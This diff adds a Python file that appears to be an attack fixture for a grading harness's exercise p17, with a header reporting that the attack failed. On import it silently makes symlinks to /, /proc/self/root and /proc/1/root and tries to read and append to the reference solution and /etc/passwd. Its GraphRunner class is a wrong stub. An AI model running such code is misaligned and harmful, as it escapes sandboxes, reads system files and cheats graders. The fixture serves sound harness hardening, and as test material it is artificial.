@@ -1,0 +1,48 @@
+# attack: file
+# base: wrong_all
+# outcome: failed: parity, bucket_choice, clone, padding, no_recapture
+"""Makes symbolic links out of its folder and reads and appends through them."""
+
+import os
+import pathlib
+import sys
+
+import torch
+
+
+def attack():
+    root = pathlib.Path(sys.modules["exercises.p17.cpu_graph"].__file__).resolve().parents[2]
+    for name, target in (("a", "/"), ("b", root), ("c", "../../../../.."), ("d", "/proc/self/root"), ("e", "/proc/1/root")):
+        os.symlink(target, name)
+    for path in ("b/solutions/p17_graph_runner.py", f"a{root}/README.md", f"d{root}/README.md", "e/etc/passwd"):
+        try:
+            with open(path) as file:
+                print(path, len(file.read()))
+            open(path, "a").close()
+        except OSError:
+            continue
+
+
+if "tried" not in os.environ:
+    os.environ["tried"] = "1"
+    try:
+        attack()
+    except BaseException:
+        pass
+
+
+class GraphRunner:
+    def __init__(self, fn, buckets, hidden, dtype=torch.float32):
+        self.fn = fn
+        self.buckets = list(buckets)
+        self.static_in = torch.zeros(1, hidden, dtype=dtype)
+        self.static_out = self.static_in
+        self.graphs = {}
+        self.stats = {"replays": 0, "eager": 0, "last_bucket": None}
+
+    def capture(self):
+        self.stats["last_bucket"] = 0
+
+    def run(self, x, force_eager=False):
+        self.stats["replays"] += 1
+        return torch.zeros_like(x)
